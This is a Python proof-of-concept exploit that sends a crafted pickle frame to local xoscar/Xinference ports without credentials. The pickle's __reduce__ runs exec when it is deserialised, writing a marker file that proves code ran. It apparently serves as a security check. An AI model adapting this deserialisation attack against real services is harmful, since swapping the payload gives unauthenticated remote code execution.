# SPDX-License-Identifier: GPL-3.0-or-later
"""Send one frame with code in it to each port of 127.0.0.1 named on the command line, without any credential.

The frame is xoscar's first version: 11 bytes of prefix, then a pickle that the receiver loads before it looks at
anything else. Loading this one writes the file ``$XINFERENCE_HOME/tmp/reached-<port>``, which tells that the code ran.
Prints one JSON object: port -> what became of the connection.
"""

from __future__ import annotations

import json
import pickle
import socket
import struct
import sys


class Code:
    """What is called where the pickle is loaded."""

    def __init__(self, port: int) -> None:
        self.port = port

    def __reduce__(self) -> tuple[object, tuple[str]]:
        # Neither a shell nor a program is needed, which the service's unit may refuse: Python alone.
        return exec, (f"import os; open(os.environ['XINFERENCE_HOME'] + '/tmp/reached-{self.port}', 'w').close()",)


def attack(port: int) -> str:
    header = pickle.dumps([{"is_cuda_buffers": [], "buf_sizes": []}, Code(port)])
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
            connection.sendall(struct.pack("<BQH", 1, len(header), 0) + header)
            answer = connection.recv(4096)
    except OSError as error:
        return f"broke off ({type(error).__name__})"
    return f"answered {answer[:60]!r}" if answer else "closed"


print(json.dumps({port: attack(int(port)) for port in sys.argv[1:]}))
